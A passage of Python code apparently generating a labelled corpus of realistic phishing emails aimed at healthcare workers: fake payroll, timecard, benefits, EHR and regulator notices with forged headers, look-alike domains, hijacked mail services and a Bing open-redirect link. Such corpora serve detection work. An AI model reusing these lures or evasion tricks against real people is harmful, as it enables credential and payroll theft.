               hops=[hop(f"[102.89.34.117] (port=50212 helo=[192.168.8.101])", f"{host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <{mf}>)\n\tid 1tg4Xr-00FZ2k-1Q\n\tfor {rc}", d, 3, with_="").replace(" with ;", ";").replace(" with ", " ", 0)],
               head=head(addr("ADP Payroll Services", mf), rc, "Action Required: Pay Statement On Hold - Verify Direct Deposit",
                         d, f"<{hx('a1mid', 32)}@brightlinemovingco.com>",
                         sig=[dkim("brightlinemovingco.com", "default", d, "Content-Transfer-Encoding:Content-Type:MIME-Version:\n\tMessage-ID:Subject:To:From:Date:Sender:Reply-To:Cc")],
                         post=["X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
                               "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
                               f"X-AntiAbuse: Primary Hostname - {host}",
                               "X-Get-Message-Sender-Via: " + host + ": authenticated_id: admin@brightlinemovingco.com"]),
               body=alt(plain, html, f"b1_{hx('a1b', 32)}"))
    add("phishing", "phish", "adp-paystatement-hold-pagesdev",
        "Fake ADP 'pay statement on hold' notice sent through a hacked moving company's cPanel mailbox (passes its "
        "own SPF/DKIM), asking a hospital employee to re-enter direct-deposit details on a pages.dev credential page.", raw)

    # ---- UKG / Kronos timecard lure through a compromised SendGrid account, SendGrid click tracking -> workers.dev
    dt = "2024-11-19 15:41:08 -0600"
    d = when(dt)
    rc = "jmorales@stlukesregionalmc.org"
    target = "https://ukg-pro-timecard.kronos-ess.workers.dev/auth?ref=" + hx("a2ref", 10)
    trk = ("https://u48213907.ct.sendgrid.net/ls/click?upn=u001." + b64("a2upn", 120).replace("+", "-").replace("/", "_")
           + "-2Bq" + b64("a2upn2", 40).replace("+", "-").replace("/", "_"))
    html = page(
        '<tr><td style="background:#005151;padding:16px 24px;color:#ffffff;font-size:22px;font-weight:bold">UKG Pro'
        '<span style="font-weight:normal;font-size:13px"> &nbsp;Workforce Management</span></td></tr>\n'
        '<tr><td style="padding:24px;line-height:20px">Hi Jessica,<br><br>Your timecard for pay period '
        '<b>11/03/2024 - 11/16/2024</b> has <b>2 exceptions</b> (missed punch, unapproved overtime) that must be '
        'signed off before payroll closes at 6:00 PM today. Unresolved exceptions will be removed from this pay '
        'period and carried to the next one.<br><br></td></tr>\n'
        f'<tr><td style="padding:0 24px 24px 24px">{button(trk, "Review Timecard", "#00a1b3")}</td></tr>\n'
        '<tr><td style="padding:0 24px 24px 24px;font-size:11px;color:#888">UKG Inc. | 900 Chelmsford Street, Lowell, MA '
        '01851<br>You are receiving this because you are an employee user of UKG Pro WFM.</td></tr>', "UKG")
    html = html.replace("</body>", f'<img src="https://u48213907.ct.sendgrid.net/wf/open?upn=u001.{b64("a2open", 60).replace("/", "_").replace("+", "-")}" '
                        'alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important">\n</body>')
    plain = ("UKG Pro Workforce Management\n\nHi Jessica,\n\nYour timecard for pay period 11/03/2024 - 11/16/2024 has 2 "
             "exceptions (missed punch, unapproved overtime) that must be signed off before payroll closes at 6:00 PM "
             f"today.\n\nReview Timecard ( {trk} )\n\nUKG Inc. | 900 Chelmsford Street, Lowell, MA 01851\n")
    ip = "149.72.154.212"
    host = "o1.ptr8823.lakeviewautoglass.com"
    mf = f"bounces+38714291-{hx('a2bo', 4)}-{rc.replace('@', '=')}@em2711.lakeviewautoglass.com"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="a2ukg",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "em2711.lakeviewautoglass.com",
                     "from": "lakeviewautoglass.com", "d": "lakeviewautoglass.com", "mfaddr": mf},
               hops=[hop("MzgyMzE4OTE (unknown)", "geopod-ismtpd-21 (SG) with HTTP", d, 1, with_="", ident=f"{b64('a2gid', 22).replace('/', '_').replace('+', '-')}\n\tfor <{rc}>").replace(" with  id", " id")],
               head=head(addr("UKG Pro Notifications", "no-reply@lakeviewautoglass.com"), rc,
                         "Timecard exceptions require your approval - payroll closes today", d,
                         f"<{b64('a2mid', 22).replace('/', '_').replace('+', '-')}@geopod-ismtpd-21>",
                         sig=[dkim("lakeviewautoglass.com", "s1", d, "content-type:from:mime-version:subject:\n\tx-feedback-id:to:cc:content-type:from:subject:to"),
                              dkim("sendgrid.info", "smtpapi", d, "content-type:from:mime-version:subject:\n\tx-feedback-id:to:cc:content-type:from:subject:to", "sg")],
                         post=[f"X-Feedback-ID: 38714291:SG", "X-SG-EID:\n " + b64("a2eid", 70) + "\n " + b64("a2eid2", 40) + "==",
                               "X-SG-ID:\n " + b64("a2sgid", 70) + "=", "X-Entity-ID: u001." + b64("a2ent", 22) + "=="]),
               body=alt(plain, html, hx("a2b", 60)))
    add("phishing", "phish", "ukg-timecard-sendgrid-workers",
        "UKG/Kronos 'timecard exceptions' lure mailed from a hijacked SendGrid account of an auto-glass shop (all checks "
        "pass), the button going through SendGrid click tracking to a credential page on workers.dev.", raw)

    # ---- Workday benefits enrollment, look-alike domain that authenticates itself
    dt = "2025-10-28 09:02:33 -0400"
    d = when(dt)
    rc = "kpatel@northshorechildrens.org"
    link = "https://northshorechildrens.myworkday-benefits.com/wday/authgwy/northshore/login.htmld?redirect=benefits"
    html = page(
        '<tr><td style="padding:20px 30px;border-bottom:1px solid #e6e6e6"><span style="color:#0875e1;font-size:26px;'
        'font-weight:bold;font-family:Helvetica">workday.</span></td></tr>\n'
        '<tr><td style="padding:24px 30px;line-height:21px;font-size:14px">Hello Kavya,<br><br>'
        'Open Enrollment for plan year <b>2026</b> closes on <b>Friday, October 31</b>. Our records show you have not '
        'yet confirmed your medical, dental and vision elections. Employees who do not complete their election will be '
        'defaulted to <b>Employee Only - Basic HDHP</b> coverage and will lose dependent coverage.<br><br>'
        'To review your inbox task, sign in with your Northshore Children\'s network credentials.</td></tr>\n'
        f'<tr><td style="padding:0 30px 26px 30px">{button(link, "Go to Inbox Task", "#0875e1")}</td></tr>\n'
        '<tr><td style="padding:14px 30px;background:#f7f7f7;font-size:11px;color:#666">Human Resources &middot; '
        'Benefits Administration<br>Northshore Children\'s Hospital</td></tr>', "Workday")
    plain = ("workday.\n\nHello Kavya,\n\nOpen Enrollment for plan year 2026 closes on Friday, October 31. Our records "
             "show you have not yet confirmed your medical, dental and vision elections. Employees who do not complete "
             "their election will be defaulted to Employee Only - Basic HDHP coverage.\n\nGo to Inbox Task: "
             f"{link}\n\nHuman Resources - Benefits Administration\nNorthshore Children's Hospital\n")
    ip = "45.89.175.62"
    host = "mail.myworkday-benefits.com"
    mf = "hr-benefits@myworkday-benefits.com"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="a3wd",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "myworkday-benefits.com",
                     "from": "myworkday-benefits.com", "mfaddr": mf},
               hops=[hop("localhost (localhost [127.0.0.1])", "mail.myworkday-benefits.com (Postfix)", d, 2,
                         with_="ESMTP", ident=f"4Xd{alnum('a3pf', 9, True)}")],
               head=head(addr("Workday HR Benefits", mf), rc, "Reminder: Your 2026 Open Enrollment elections are incomplete",
                         d, f"<{hx('a3mid', 8)}.{hx('a3mid2', 12)}@myworkday-benefits.com>",
                         sig=[dkim("myworkday-benefits.com", "mail", d)]),
               body=alt(plain, html, f"=-{b64('a3b', 22)}"))
    add("phishing", "phish", "workday-open-enrollment-lookalike",
        "Workday 'open enrollment incomplete' notice from the newly registered look-alike myworkday-benefits.com, which "
        "passes its own SPF/DKIM/DMARC, leading to a fake Workday sign-in harvesting hospital network credentials.", raw)

    # ---- Payroll diversion BEC: "nurse" from Gmail asks payroll to change direct deposit
    dt = "2025-04-14 10:27:45 -0700"
    d = when(dt)
    rc = "payroll@desertspringsurgical.com"
    mf = "alyssa.kemper.rn@gmail.com"
    plain = ("Hi,\n\nI recently changed banks and would like to update my direct deposit before the next pay date. "
             "Can you please let me know what you need from me or send the form over? I'm on nights this week so "
             "email is easiest.\n\nThank you,\nAlyssa Kemper\n")
    html = gmail_html(["Hi,", "", "I recently changed banks and would like to update my direct deposit before the next "
                       "pay date. Can you please let me know what you need from me or send the form over? I&#39;m on "
                       "nights this week so email is easiest.", "", "Thank you,", "Alyssa Kemper"])
    raw = mail(rcpt_kind="gws", rcpt=rc, dt=dt, helo="mail-sor-f41.google.com", host="mail-sor-f41.google.com",
               ip="209.85.220.41", seed="a4bec",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "gmail.com", "from": "gmail.com",
                     "d": "gmail.com", "s": "20230601", "mfaddr": mf, "pol": "p=NONE sp=QUARANTINE dis=NONE"},
               hops=[f"by 2002:a17:90b:{hx('a4h', 4)} with SMTP id {alnum('a4hh', 20).lower()};\n        {fmt(d + timedelta(seconds=1))}"],
               head=head(addr("Alyssa Kemper", mf), rc, "Direct deposit update", d,
                         f"<CAG{alnum('a4mid', 42)}@mail.gmail.com>",
                         sig=[dkim("gmail.com", "20230601", d, "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n\t:date:message-id:reply-to")]),
               body=alt(plain, html, f"000000000000{hx('a4b', 16)}"))
    add("phishing", "phish", "payroll-direct-deposit-gmail-bec",
        "Payroll-diversion BEC: a Gmail account using the name of a surgical center nurse asks payroll to switch her "
        "direct deposit to a new bank before the next pay date; no link, only a pretext to get the form.", raw)



def batch_a2() -> None:
    # ---- NHS ESR payslip lure from a hacked bakery's cPanel mailbox to an nhs.net mailbox, web.app landing
    dt = "2024-09-26 06:48:19 +0100"
    d = when(dt)
    rc = "sophie.harland@nhs.net"
    mf = "info@cornishbakehouse.co.uk"
    link = "https://esr-payslip-nhs.web.app/?u=" + base64.b64encode(rc.encode()).decode().rstrip("=")
    html = page(
        '<tr><td style="background:#005eb8;padding:14px 24px"><span style="color:#fff;font-weight:bold;font-size:22px;'
        'border:2px solid #fff;padding:2px 6px">NHS</span> <span style="color:#fff;font-size:16px">&nbsp;Electronic Staff Record</span></td></tr>\n'
        '<tr><td style="padding:24px;line-height:21px;font-size:15px;color:#212b32">Dear Employee,<br><br>'
        'Your September 2024 payslip has been published. Due to the <b>pay award back-pay adjustment</b> applied this '
        'month, you are required to confirm your bank details and NI number on ESR before the payment is released.'
        '<br><br>Failure to confirm by 27/09/2024 will delay your salary and arrears to the October pay run.</td></tr>\n'
        f'<tr><td style="padding:0 24px 24px 24px">{button(link, "View my payslip", "#007f3b")}</td></tr>\n'
        '<tr><td style="padding:16px 24px;background:#f0f4f5;font-size:12px;color:#4c6272">ESR Self Service &middot; '
        'NHS Business Services Authority<br>This is a system generated email, please do not reply.</td></tr>', "ESR")
    plain = ("NHS Electronic Staff Record\n\nDear Employee,\n\nYour September 2024 payslip has been published. Due to "
             "the pay award back-pay adjustment applied this month, you are required to confirm your bank details and "
             f"NI number on ESR before the payment is released.\n\nView my payslip: {link}\n\nESR Self Service\n")
    sd = sender("cpanel", d, "a5", mf, host="cp-wc44.lon01.ds.network", ip="185.211.5.43")
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="a5esr",
                  auth_over={"dmarc": "none", "pol": "p=NONE"},
                  head_lines=head(addr("ESR Payslip Notification", mf), rc, "Your ESR payslip is ready - action required before release",
                                  d, sd["mid"], sig=sd["sig"], post=["X-Mailer: WordPress/6.6.2 (+https://wordpress.org/)"]),
                  body=alt(plain, html, f"b1=_{alnum('a5b', 40)}"))
    add("phishing", "phish", "nhs-esr-payslip-webapp",
        "Fake NHS ESR 'payslip ready, confirm bank details' message to an nhs.net mailbox, sent from a compromised bakery "
        "website's mailbox and linking to a credential/bank-detail form on web.app.", raw)

    # ---- HealthRoster shift-swap lure from a free Outlook.com account, firebaseapp landing
    dt = "2025-01-09 19:22:04 +0000"
    d = when(dt)
    rc = "daniel.oyelaran@harbourviewcare.co.uk"
    mf = "healthroster.notify@outlook.com"
    link = "https://allocate-healthroster-swap.firebaseapp.com/employee/online/#/swaps?id=" + hx("a6id", 8)
    html = outlook_html(["<b>HealthRoster Employee Online</b>", "",
                         "You have 1 pending shift swap request from a colleague:",
                         "&nbsp; Thu 16 Jan 2025 &nbsp; LD (07:30-20:00) &nbsp; Nightingale Unit", "",
                         f'Please <a href="{link}">log in to Employee Online</a> to accept or decline. Requests not '
                         "answered within 24 hours are declined automatically.", "",
                         "Allocate Software / RLDatix"])
    plain = ("HealthRoster Employee Online\n\nYou have 1 pending shift swap request from a colleague:\n  Thu 16 Jan 2025  "
             f"LD (07:30-20:00)  Nightingale Unit\n\nPlease log in to Employee Online to accept or decline: {link}\n\n"
             "Allocate Software / RLDatix\n")
    sd = sender("outlook", d, "a6", mf)
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="a6rota",
                  head_lines=head(addr("HealthRoster Employee Online", mf), rc, "Shift swap request awaiting your response",
                                  d, sd["mid"], sig=sd["sig"], post=sd["post"]),
                  body=alt(plain, html, f"_000_{sd['mid'][1:30]}_"))
    add("phishing", "phish", "healthroster-shift-swap-firebase",
        "HealthRoster 'shift swap request' to a care home worker from a free Outlook.com address with a roster-like display "
        "name; the link is a fake Employee Online login on firebaseapp.com.", raw)

    # ---- MyChart test-result lure to a nurse's personal Gmail, look-alike domain
    dt = "2025-06-03 16:05:51 -0500"
    d = when(dt)
    rc = "megan.truong88@gmail.com"
    mf = "notification@mychart-portalmessages.com"
    link = f"https://mychart-portalmessages.com/MyChart/Authentication/Login?ref=testresult&t={hx('a7t', 20)}"
    html = page(
        '<tr><td style="padding:18px 28px;background:#e8f1f8"><span style="color:#c8102e;font-size:24px;font-weight:bold">My</span>'
        '<span style="color:#0b4f8a;font-size:24px;font-weight:bold">Chart</span></td></tr>\n'
        '<tr><td style="padding:26px 28px;font-size:15px;line-height:22px">Dear Megan,<br><br>A new test result is available '
        'for you to view in MyChart. Your provider has also left a comment about this result.<br><br>'
        'For your privacy, results are not included in this email.</td></tr>\n'
        f'<tr><td style="padding:0 28px 26px 28px">{button(link, "Log in to MyChart", "#0b4f8a")}</td></tr>\n'
        '<tr><td style="padding:16px 28px;font-size:11px;color:#777">MyChart&reg; licensed from Epic Systems Corporation, '
        '&copy; 1999 - 2025. Please do not reply to this message.</td></tr>', "MyChart")
    plain = ("MyChart\n\nDear Megan,\n\nA new test result is available for you to view in MyChart. Your provider has also "
             f"left a comment about this result.\n\nLog in to MyChart: {link}\n\nPlease do not reply to this message.\n")
    sd = sender("postfix", d, "a7", mf, host="mail.mychart-portalmessages.com", ip="193.149.129.44")
    raw = deliver(sd, rcpt_kind="gmail", rcpt=rc, dt=dt, seed="a7mc",
                  head_lines=head(addr("MyChart", mf), rc, "New test result available in MyChart", d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"----=_Part_{num('a7p', 100000, 999999)}_{num('a7q', 1000000, 9999999)}.{int(d.timestamp())}"))
    add("phishing", "phish", "mychart-test-result-lookalike",
        "MyChart 'new test result' notice to a nurse's personal Gmail from the look-alike domain mychart-portalmessages.com "
        "(authenticates itself), asking her to log in on the same fake MyChart page.", raw)

    # ---- Epic Hyperspace access-expiry lure from a compromised physiotherapy M365 tenant, Azure blob landing
    dt = "2025-08-12 08:31:40 -0400"
    d = when(dt)
    rc = "rgallagher@mercyvalleyhealth.org"
    mf = "jenna@coastalphysiogroup.com"
    link = f"https://epicaccess2fa.z13.web.core.windows.net/index.html#{base64.b64encode(rc.encode()).decode()}"
    html = outlook_html(["Hello,", "",
                         "Your <b>Epic Hyperspace / Haiku</b> access is due for re-validation under the new "
                         "organisation-wide two-factor policy. Accounts not re-validated by <b>08/14/2025</b> will be "
                         "suspended and you will be unable to chart or sign orders.", "",
                         f'<a href="{link}">Re-validate Epic access</a>', "",
                         "Thank you,", "Clinical Applications &amp; Identity Services"])
    plain = ("Hello,\n\nYour Epic Hyperspace / Haiku access is due for re-validation under the new organisation-wide "
             "two-factor policy. Accounts not re-validated by 08/14/2025 will be suspended.\n\nRe-validate Epic access "
             f"<{link}>\n\nThank you,\nClinical Applications & Identity Services\n")
    sd = sender("m365", d, "a8", mf)
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="a8epic",
                  head_lines=head(addr("Clinical Applications Team", mf), "undisclosed-recipients:;",
                                  "Epic access re-validation required (2FA)", d, sd["mid"], sig=sd["sig"],
                                  post=fill(sd["post"], "Epic access re-validation required (2FA)", False)),
                  body=alt(plain, html, f"_000_{hx('a8b', 20).upper()}_"))
    add("phishing", "phish", "epic-access-revalidation-azureblob",
        "Epic Hyperspace 're-validate access or be suspended' lure sent Bcc from a compromised physiotherapy clinic's "
        "Microsoft 365 mailbox (SPF/DKIM/DMARC pass), linking to a phishing page on Azure blob static hosting.", raw)

    # ---- EMIS Web licence suspension to an nhs.net GP practice mailbox, netlify landing
    dt = "2024-07-17 11:12:09 +0100"
    d = when(dt)
    rc = "practicemanager.b82041@nhs.net"
    mf = "support@emis-webclinical.com"
    link = "https://emis-web-clinical-login.netlify.app/?practice=B82041"
    html = page(
        '<tr><td style="padding:18px 26px;border-bottom:4px solid #00a499"><span style="font-size:24px;color:#00205b;'
        'font-weight:bold">EMIS</span><span style="font-size:14px;color:#00a499"> &nbsp;Health</span></td></tr>\n'
        '<tr><td style="padding:22px 26px;line-height:21px">Dear Practice Manager,<br><br>Following the national '
        'Smartcard and NHS CIS2 authentication update, your practice\'s <b>EMIS Web licence (ODS B82041)</b> has been '
        'flagged for re-verification. To avoid interruption to appointments, prescribing and EPS, a practice '
        'administrator must re-verify the organisation account within 48 hours.</td></tr>\n'
        f'<tr><td style="padding:0 26px 24px 26px">{button(link, "Re-verify practice account", "#00205b")}</td></tr>\n'
        '<tr><td style="padding:14px 26px;font-size:11px;color:#666">EMIS Group plc, Fulford Grange, Micklefield Lane, '
        'Rawdon, Leeds LS19 6BA</td></tr>', "EMIS")
    plain = ("EMIS Health\n\nDear Practice Manager,\n\nFollowing the national Smartcard and NHS CIS2 authentication update, "
             "your practice's EMIS Web licence (ODS B82041) has been flagged for re-verification. A practice administrator "
             f"must re-verify the organisation account within 48 hours.\n\nRe-verify practice account: {link}\n")
    sd = sender("postfix", d, "a10", mf, host="vps-3b1f2a.contaboserver.net", ip="161.97.144.27")
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="a10emis",
                  head_lines=head(addr("EMIS Health Support", mf), rc, "EMIS Web licence re-verification required - ODS B82041",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a10b', 32)}"))
    add("phishing", "phish", "emis-web-licence-netlify",
        "EMIS Web 'licence re-verification' notice to a GP practice's nhs.net mailbox from the look-alike emis-webclinical.com "
        "hosted on a Contabo VPS, linking to a fake login on netlify.app.", raw)

    # ---- Texas Board of Nursing complaint lure to personal Gmail, look-alike .org domain
    dt = "2025-03-20 13:44:27 -0500"
    d = when(dt)
    rc = "brianna.okafor.rn@gmail.com"
    mf = "enforcement@txbon-gov.org"
    case = f"TBON-2025-{num('a11c', 10000, 99999)}"
    link = f"https://txbon-gov.org/enforcement/complaint/view?case={case}&id={hx('a11id', 12)}"
    html = page(
        '<tr><td style="padding:16px 26px;background:#13294b;color:#fff;font-size:18px;font-weight:bold">Texas Board of Nursing'
        '<br><span style="font-size:12px;font-weight:normal">Enforcement Division</span></td></tr>\n'
        f'<tr><td style="padding:24px 26px;line-height:21px">RE: Complaint No. <b>{case}</b><br>Licensee: Brianna Okafor, RN<br><br>'
        'The Board has received a written complaint alleging unprofessional conduct related to medication documentation '
        'at your place of employment. Pursuant to Tex. Occ. Code &sect;301.457 you are entitled to review the complaint '
        'and submit a written response within <b>ten (10) days</b>. Failure to respond may result in temporary suspension '
        'of your license pending investigation.</td></tr>\n'
        f'<tr><td style="padding:0 26px 24px 26px">{button(link, "View Complaint Documents", "#13294b")}</td></tr>\n'
        '<tr><td style="padding:14px 26px;font-size:11px;color:#666">Texas Board of Nursing &middot; 1801 Congress Avenue, '
        'Suite 10-200, Austin, Texas 78701</td></tr>', "Texas BON")
    plain = (f"Texas Board of Nursing - Enforcement Division\n\nRE: Complaint No. {case}\nLicensee: Brianna Okafor, RN\n\n"
             "The Board has received a written complaint alleging unprofessional conduct related to medication "
             "documentation at your place of employment. You are entitled to review the complaint and submit a written "
             f"response within ten (10) days.\n\nView Complaint Documents: {link}\n")
    sd = sender("postfix", d, "a11", mf, host="mail.txbon-gov.org", ip="91.215.85.201")
    raw = deliver(sd, rcpt_kind="gmail", rcpt=rc, dt=dt, seed="a11bon",
                  head_lines=head(addr("Texas Board of Nursing", mf), rc, f"Notice of Complaint Filed Against Your License - {case}",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a11b', 32)}"))
    add("phishing", "phish", "texas-bon-complaint-lookalike",
        "Texas Board of Nursing 'complaint filed against your license' notice to a nurse's Gmail from the look-alike "
        "txbon-gov.org, pushing her to 'view complaint documents' on the same phishing site.", raw)



def simple_notice(brand_bar: str, paras: list[str], link: str, label: str, colour: str, footer: str, title: str) -> str:
    rows = brand_bar + "\n" + "".join(f'<tr><td style="padding:8px 28px;line-height:21px">{p}</td></tr>\n' for p in paras)
    rows += f'<tr><td style="padding:14px 28px 22px 28px">{button(link, label, colour)}</td></tr>\n'
    rows += f'<tr><td style="padding:14px 28px;font-size:11px;color:#777;border-top:1px solid #eee">{footer}</td></tr>'
    return page(rows, title)


def batch_a3() -> None:
    # ---- NMC revalidation lapse to personal Hotmail, SES-sent look-alike, Bing open redirect
    dt = "2025-05-07 08:03:12 +0100"
    d = when(dt)
    rc = "chloe.wainwright@hotmail.co.uk"
    mf = "no-reply@nmc-registration-services.com"
    target = "https://nmc-online-revalidation.com/login?pin=" + hx("a12p", 8)
    link = ("https://www.bing.com/ck/a?!&&p=" + hx("a12bp", 64) + "JmltdHM9MTc0NjU3NjAwMA&ptn=3&ver=2&hsh=4&fclid="
            + hx("a12fc", 8) + "&u=a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=") + "&ntb=1")
    paras = ["Dear Registrant,",
             "Our records show that your <b>revalidation application</b> has not been submitted and your registration "
             "is due to <b>lapse on 31 May 2025</b>. If your registration lapses you will not be able to practise as a "
             "nurse or midwife in the UK.",
             "To avoid removal from the register, please log in to NMC Online, complete your revalidation and pay the "
             "annual retention fee of &pound;129."]
    html = simple_notice('<tr><td style="padding:18px 28px;background:#2d1e5a;color:#fff;font-size:20px;font-weight:bold">'
                         'Nursing &amp; Midwifery Council</td></tr>', paras, link, "Log in to NMC Online", "#e4007c",
                         "Nursing and Midwifery Council, 23 Portland Place, London W1B 1PZ. Registered charity 1091434.", "NMC")
    plain = ("Nursing & Midwifery Council\n\nDear Registrant,\n\nOur records show that your revalidation application has "
             "not been submitted and your registration is due to lapse on 31 May 2025.\n\nTo avoid removal from the "
             f"register, please log in to NMC Online: {link}\n")
    sd = sender("ses", d, "a12", f"010201{hx('a12r', 10)}@eu-west-1.amazonses.com", dom="nmc-registration-services.com")
    sd["auth"]["mf"] = "eu-west-1.amazonses.com"
    raw = deliver(sd, rcpt_kind="outlook", region="eur", rcpt=rc, dt=dt, seed="a12nmc",
                  head_lines=head(addr("NMC Registrations", mf), rc, "Your NMC registration is due to lapse - revalidate now",
                                  d, sd["mid"].replace("@email.amazonses.com", "@eu-west-1.amazonses.com"), sig=sd["sig"], post=sd["post"]),
                  body=alt(plain, html, f"=_{hx('a12b', 30)}"))
    add("phishing", "phish", "nmc-revalidation-bing-redirect",
        "NMC 'registration will lapse' lure to a UK nurse's Hotmail, sent through Amazon SES from a look-alike domain, "
        "with the button hidden behind a Bing ck/a open redirect to a fake NMC Online login and fee payment.", raw)

    # ---- GMC fitness-to-practise complaint with a PDF carrying the link, to a doctor's Gmail
    dt = "2024-10-02 10:19:55 +0100"
    d = when(dt)
    rc = "dr.arjun.mehta@gmail.com"
    mf = "ftp.casework@gmc-uk-casework.org"
    ref = f"FTP/{num('a13r', 1000000, 9999999)}"
    url = f"https://gmc-casework-portal.vercel.app/case/{ref.replace('/', '-')}"
    doc = F.pdf(["General Medical Council - Fitness to Practise Directorate", "", f"Our reference: {ref}",
                 "Private and confidential", "", "Dear Dr Mehta,", "",
                 "We have received a concern about your practice raised by a patient's family.",
                 "Under Rule 4(3) of the GMC (Fitness to Practise) Rules 2004 we are required to",
                 "disclose the allegation to you and invite your comments within 28 days.", "",
                 "The full complaint and the supporting records are available in our secure",
                 "casework portal. Please log in with your GMC Online credentials.", "",
                 "Yours sincerely,", "Investigation Officer, Fitness to Practise"], (url, (56, 420, 300, 460)),
                "GMC Fitness to Practise - Notice of Concern")
    plain = (f"Dear Dr Mehta,\n\nPlease find attached a notice regarding a concern raised about your practice ({ref}).\n"
             "Kindly review the attached letter and respond within 28 days.\n\nFitness to Practise Directorate\n"
             "General Medical Council\n")
    html = outlook_html([p for p in plain.strip().split("\n")])
    sd = sender("cpanel", d, "a13", mf, host="server47.hostingserver.uk", ip="109.203.112.58")
    raw = deliver(sd, rcpt_kind="gmail", rcpt=rc, dt=dt, seed="a13gmc", auth_over={"dmarc": "none"},
                  head_lines=head(addr("GMC Fitness to Practise", mf), rc, f"Confidential: Notice of concern - {ref}", d,
                                  sd["mid"], sig=sd["sig"], post=["X-Mailer: Microsoft Outlook 16.0"]),
                  body=Multi("mixed", f"----=_NextPart_000_{hx('a13b', 4).upper()}_01DB14C2.{hx('a13c', 8).upper()}",
                             [alt(plain, html, f"----=_NextPart_001_{hx('a13d', 4).upper()}_01DB14C2.{hx('a13c', 8).upper()}"),
                              attachment("application/pdf", f"GMC_{ref.replace('/', '_')}_Notice.pdf", doc)]))
    add("phishing", "phish", "gmc-ftp-notice-pdf-vercel",
        "GMC 'fitness to practise concern' letter to a doctor's Gmail from the look-alike gmc-uk-casework.org; the attached "
        "PDF's button links to a fake GMC Online login on vercel.app.", raw)

    # ---- AHPRA renewal fee lure to an Australian practice, vercel landing
    dt = "2025-11-10 09:41:30 +1100"
    d = when(dt)
    rc = "n.castellano@eastbaymedical.com.au"
    mf = "renewals@ahpra-registration.com"
    link = "https://ahpra-renew-portal.vercel.app/login?reg=MED000" + str(num("a14r", 1000000, 9999999))
    paras = ["Dear Practitioner,", "Your registration as a <b>Medical Practitioner</b> is due for renewal by "
             "<b>30 November 2025</b>. Our records show a <b>payment failure</b> on your renewal application.",
             "To avoid a late fee and the lapse of your registration, please log in and update your payment details "
             "within 72 hours."]
    html = simple_notice('<tr><td style="padding:16px 28px;background:#00305e;color:#fff;font-size:20px">Ahpra '
                         '<span style="font-size:12px">| Australian Health Practitioner Regulation Agency</span></td></tr>',
                         paras, link, "Renew registration", "#00a3ad",
                         "Ahpra, GPO Box 9958, Melbourne VIC 3001 &middot; 1300 419 495", "Ahpra")
    plain = ("Ahpra\n\nDear Practitioner,\n\nYour registration as a Medical Practitioner is due for renewal by 30 November "
             "2025. Our records show a payment failure on your renewal application.\n\nRenew registration: "
             f"{link}\n")
    sd = sender("postfix", d, "a14", mf, host="mail.ahpra-registration.com", ip="45.141.215.99")
    raw = deliver(sd, rcpt_kind="m365", region="aus", rcpt=rc, dt=dt, seed="a14ah",
                  head_lines=head(addr("Ahpra Registration", mf), rc, "Registration renewal payment failed - action required",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a14b', 30)}"))
    add("phishing", "phish", "ahpra-renewal-payment-vercel",
        "Ahpra 'renewal payment failed' notice to an Australian GP from the look-alike ahpra-registration.com, linking to "
        "a card-and-login harvesting page on vercel.app.", raw)

    # ---- DEA 'investigation' extortion with a callback number, PDF notice, from Gmail to a pharmacy
    dt = "2024-06-25 11:58:02 -0400"
    d = when(dt)
    rc = "pharmacist@oakridgecommunityrx.com"
    mf = "dea.diversion.agent.reynolds@gmail.com"
    doc = F.pdf(["U.S. DEPARTMENT OF JUSTICE - DRUG ENFORCEMENT ADMINISTRATION", "Diversion Control Division", "",
                 f"NOTICE OF INVESTIGATION  Case No. DEA-DC-{num('a15c', 100000, 999999)}", "",
                 "Registrant: Oakridge Community Pharmacy", "",
                 "Your DEA registration has been linked to prescriptions for Schedule II controlled",
                 "substances dispensed in Texas and Florida under a suspended prescriber number.",
                 "Your registration will be SUSPENDED within 24 hours unless you contact the",
                 "assigned Special Agent to verify your identity and registration.", "",
                 "Special Agent Mark Reynolds   Direct line: (202) 555-0187", "",
                 "Do not discuss this matter with other parties. Failure to respond will be",
                 "treated as non-cooperation and referred to the U.S. Attorney's Office."], None,
                "DEA Notice of Investigation")
    plain = ("Good morning,\n\nThis is Special Agent Mark Reynolds with the DEA Diversion Control Division. Your "
             "pharmacy's DEA registration has been flagged in an ongoing investigation. Please see the attached notice "
             "and call me today at (202) 555-0187 before 4 PM EST. If we do not hear from you your registration "
             "will be suspended.\n\nSA Mark Reynolds\nDrug Enforcement Administration\n")
    html = gmail_html(plain.strip().split("\n"))
    sd = sender("gmail", d, "a15", mf)
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a15dea",
                  head_lines=head(addr("DEA Diversion Control", mf), rc, "URGENT: DEA Registration Under Investigation", d,
                                  sd["mid"], sig=sd["sig"]),
                  body=Multi("mixed", f"000000000000{hx('a15m', 16)}",
                             [alt(plain, html, f"000000000000{hx('a15a', 16)}"),
                              attachment("application/pdf", "DEA_Notice_of_Investigation.pdf", doc)]))
    add("phishing", "phish", "dea-investigation-callback-gmail",
        "DEA-impersonation extortion: a Gmail 'Special Agent' tells a pharmacy its registration is under investigation and "
